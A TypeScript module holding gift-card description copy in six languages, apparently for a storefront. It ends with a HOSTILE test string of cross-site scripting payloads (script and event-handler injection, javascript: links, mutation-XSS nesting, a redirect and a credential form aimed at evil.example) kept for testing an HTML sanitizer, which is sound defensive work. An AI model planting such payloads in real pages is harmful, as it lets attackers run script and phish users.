/** Words for descriptions: `{brand}` and `{country}` are filled in. Languages the upstream was seen to answer in. */
export type Words = {
  about: Record<Theme, string>;
  gift: string;
  redeem: [string, string, string];
  inStore: string;
  terms: [string, string, string];
  note: string;
};

export type Theme =
  | 'shop'
  | 'food'
  | 'games'
  | 'screen'
  | 'travel'
  | 'self'
  | 'money'
  | 'giving'
  | 'learning';

const THEMES: Record<string, Theme> = {
  food: 'food',
  groceries: 'food',
  games: 'games',
  streaming: 'screen',
  entertainment: 'screen',
  travel: 'travel',
  travel_flights: 'travel',
  health_beauty: 'self',
  sports_fitness: 'self',
  apparel_clothing: 'self',
  footwear: 'self',
  'e-money': 'money',
  bills: 'money',
  gambling: 'money',
  charity_donations: 'giving',
  books_learning: 'learning',
};

export const themeOf = (category: string | undefined): Theme => THEMES[category ?? ''] ?? 'shop';

export const COPY: Record<string, Words> = {
  en: {
    about: {
      shop: 'Shop at {brand} with credit in your account. It covers the whole range and never runs out on its own.',
      food: 'Dinner, lunch or the weekly shop: {brand} credit is taken off the bill at checkout.',
      games: 'Add credit to a {brand} account and spend it on games, add-ons and in-game items.',
      screen: 'Films, series, music and live events: {brand} credit pays for what you watch and hear next.',
      travel: 'Book with {brand} and pay with credit, in full or together with a card.',
      self: 'Choose what fits: {brand} credit is good for the whole collection, online and on sale items too.',
      money: 'Credit with {brand}, to spend wherever {brand} is accepted.',
      giving: 'Let the receiver choose the cause: {brand} passes the full amount on.',
      learning: 'Books, courses and stories: {brand} credit is added to an account and spent at leisure.',
    },
    gift: 'Arrives by e-mail within minutes and can be passed on as a gift.',
    redeem: [
      'Sign in to your {brand} account, or create one.',
      'Open <a href="https://www.example.com/redeem">the redeem page</a>.',
      'Enter the code exactly as it is written.',
    ],
    inStore: 'In a shop, show the code at the till.',
    terms: [
      'For accounts in {country} only.',
      'Not exchangeable for cash, no refund once the code was shown.',
      'Treat the code like cash: {brand} does not replace lost ones.',
    ],
    note: 'Keep the e-mail until the credit is used up.',
  },
  de: {
    about: {
      shop: 'Bei {brand} mit Guthaben einkaufen. Es gilt für das ganze Sortiment und verfällt nicht von selbst.',
      food: 'Abendessen, Mittagspause oder Wocheneinkauf: Guthaben von {brand} wird an der Kasse abgezogen.',
      games: 'Guthaben für ein {brand}-Konto, für Spiele, Erweiterungen und Gegenstände.',
      screen: 'Filme, Serien, Musik und Veranstaltungen: Guthaben von {brand} zahlt, was als Nächstes läuft.',
      travel: 'Bei {brand} buchen und mit Guthaben zahlen, ganz oder zusammen mit einer Karte.',
      self: 'Aussuchen, was passt: Guthaben von {brand} gilt für die ganze Auswahl, auch für Reduziertes.',
      money: 'Guthaben bei {brand}, überall dort, wo {brand} angenommen wird.',
      giving: 'Wer beschenkt wird, wählt den Zweck: {brand} gibt den vollen Betrag weiter.',
      learning: 'Bücher, Kurse und Geschichten: Guthaben von {brand} kommt aufs Konto und wartet dort.',
    },
    gift: 'Kommt in wenigen Minuten per E-Mail und lässt sich verschenken.',
    redeem: [
      'Im Konto bei {brand} anmelden oder eines anlegen.',
      '<a href="https://www.example.com/redeem">Seite zum Einlösen</a> öffnen.',
      'Code genau so eingeben, wie er dasteht.',
    ],
    inStore: 'Im Geschäft den Code an der Kasse zeigen.',
    terms: [
      'Nur für Konten in {country}.',
      'Keine Auszahlung, keine Rückgabe, nachdem der Code gezeigt wurde.',
      'Wie Bargeld behandeln: {brand} ersetzt keine verlorenen Codes.',
    ],
    note: 'Die E-Mail aufheben, bis das Guthaben verbraucht ist.',
  },
  es: {
    about: {
      shop: 'Compra en {brand} con saldo en tu cuenta. Vale para todo el catálogo y no caduca por sí solo.',
      food: 'Cena, almuerzo o la compra semanal: el saldo de {brand} se descuenta al pagar.',
      games: 'Añade saldo a una cuenta de {brand} y gástalo en juegos, extensiones y objetos.',
      screen: 'Películas, series, música y eventos: el saldo de {brand} paga lo próximo que veas.',
      travel: 'Reserva con {brand} y paga con saldo, todo o junto con una tarjeta.',
      self: 'Elige lo que te va: el saldo de {brand} vale para toda la colección, también en rebajas.',
      money: 'Saldo de {brand}, para gastar donde se acepte {brand}.',
      giving: 'Quien lo recibe elige la causa: {brand} entrega el importe completo.',
      learning: 'Libros, cursos e historias: el saldo de {brand} se añade a la cuenta y espera allí.',
    },
    gift: 'Llega por correo en minutos y se puede regalar.',
    redeem: [
      'Entra en tu cuenta de {brand} o crea una.',
      'Abre <a href="https://www.example.com/redeem">la página de canje</a>.',
      'Escribe el código tal como aparece.',
    ],
    inStore: 'En tienda, muestra el código en la caja.',
    terms: [
      'Solo para cuentas de {country}.',
      'No se cambia por dinero ni se devuelve una vez mostrado el código.',
      'Trátalo como dinero: {brand} no repone códigos perdidos.',
    ],
    note: 'Guarda el correo hasta gastar el saldo.',
  },
  fr: {
    about: {
      shop: 'Achetez chez {brand} avec du crédit. Il vaut pour toute la gamme et n’expire pas de lui-même.',
      food: 'Dîner, déjeuner ou courses : le crédit {brand} est déduit au moment de payer.',
      games: 'Ajoutez du crédit à un compte {brand} pour des jeux, des extensions et des objets.',
      screen: 'Films, séries, musique et spectacles : le crédit {brand} paie la suite.',
      travel: 'Réservez avec {brand} et payez avec du crédit, en entier ou avec une carte.',
      self: 'Choisissez ce qui vous va : le crédit {brand} vaut pour toute la collection, soldes compris.',
      money: 'Du crédit {brand}, partout où {brand} est accepté.',
      giving: 'Le destinataire choisit la cause : {brand} transmet la somme entière.',
      learning: 'Livres, cours et récits : le crédit {brand} s’ajoute au compte et y reste.',
    },
    gift: 'Arrive par e-mail en quelques minutes et peut être offert.',
    redeem: [
      'Connectez-vous à votre compte {brand} ou créez-en un.',
      'Ouvrez <a href="https://www.example.com/redeem">la page d’utilisation</a>.',
      'Saisissez le code exactement comme il est écrit.',
    ],
    inStore: 'En magasin, montrez le code à la caisse.',
    terms: [
      'Pour les comptes de {country} seulement.',
      'Ni échange contre de l’argent, ni retour une fois le code affiché.',
      'Comme de l’argent : {brand} ne remplace pas les codes perdus.',
    ],
    note: 'Gardez l’e-mail jusqu’à épuisement du crédit.',
  },
  pt: {
    about: {
      shop: 'Compre na {brand} com saldo na conta. Vale para toda a loja e não expira sozinho.',
      food: 'Jantar, almoço ou a compra da semana: o saldo {brand} é descontado no pagamento.',
      games: 'Adicione saldo a uma conta {brand} e use em jogos, expansões e itens.',
      screen: 'Filmes, séries, música e eventos: o saldo {brand} paga o que vem a seguir.',
      travel: 'Reserve com a {brand} e pague com saldo, tudo ou junto com um cartão.',
      self: 'Escolha o que combina: o saldo {brand} vale para toda a coleção, até em promoção.',
      money: 'Saldo {brand}, para gastar onde a {brand} é aceita.',
      giving: 'Quem recebe escolhe a causa: a {brand} repassa o valor inteiro.',
      learning: 'Livros, cursos e histórias: o saldo {brand} entra na conta e espera lá.',
    },
    gift: 'Chega por e-mail em minutos e pode ser dado de presente.',
    redeem: [
      'Entre na sua conta {brand} ou crie uma.',
      'Abra <a href="https://www.example.com/redeem">a página de resgate</a>.',
      'Digite o código exatamente como está escrito.',
    ],
    inStore: 'Na loja, mostre o código no caixa.',
    terms: [
      'Somente para contas de {country}.',
      'Não vale como dinheiro nem tem devolução depois que o código foi mostrado.',
      'Trate como dinheiro: a {brand} não repõe códigos perdidos.',
    ],
    note: 'Guarde o e-mail até usar todo o saldo.',
  },
  tr: {
    about: {
      shop: '{brand} hesabındaki bakiyeyle alışveriş. Bütün ürünlerde geçer, kendiliğinden bitmez.',
      food: 'Akşam yemeği ya da haftalık alışveriş: {brand} bakiyesi ödemede düşülür.',
      games: '{brand} hesabına bakiye: oyunlar, eklentiler ve eşyalar için.',
      screen: 'Film, dizi, müzik ve etkinlik: sıradakini {brand} bakiyesi öder.',
      travel: '{brand} ile rezervasyon, bakiyeyle ödeme; tamamı ya da kartla birlikte.',
      self: 'Uyanı seçin: {brand} bakiyesi indirimliler dahil bütün koleksiyonda geçer.',
      money: '{brand} kabul edilen her yerde geçen bakiye.',
      giving: 'Nereye gideceğini alan seçer: {brand} tutarın tamamını iletir.',
      learning: 'Kitap, ders ve hikâye: {brand} bakiyesi hesaba eklenir ve bekler.',
    },
    gift: 'Dakikalar içinde e-postayla gelir, hediye edilebilir.',
    redeem: [
      '{brand} hesabınıza girin ya da hesap açın.',
      '<a href="https://www.example.com/redeem">Kullanım sayfasını</a> açın.',
      'Kodu yazıldığı gibi girin.',
    ],
    inStore: 'Mağazada kodu kasada gösterin.',
    terms: [
      'Yalnızca {country} hesapları için.',
      'Paraya çevrilmez, kod gösterildikten sonra iade edilmez.',
      'Nakit gibi saklayın: {brand} kaybolan kodu yenilemez.',
    ],
    note: 'Bakiye bitene kadar e-postayı saklayın.',
  },
};

/** Everything that must never reach a page, wrapped around one good paragraph. */
export const HOSTILE = [
  '<p>Stories for every evening.</p>',
  '<script>window.hostile = "script"</script>',
  '<img src="x" onerror="window.hostile = \'onerror\'">',
  '<a href="javascript:window.hostile=\'link\'">Free credit</a>',
  '<a href=" JaVaScRiPt:window.hostile=\'spaced\'">More</a>',
  '<svg onload="window.hostile=\'svg\'"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<style>body { display: none }</style>',
  '<p style="position:fixed;inset:0;background:#000" onclick="window.hostile=\'click\'">Covered</p>',
  '<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>',
  '<form action="https://evil.example"><input name="email"><button>Claim</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hostile=1></style></table></mtext></math>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<p>Unclosed <b>bold',
].join('');
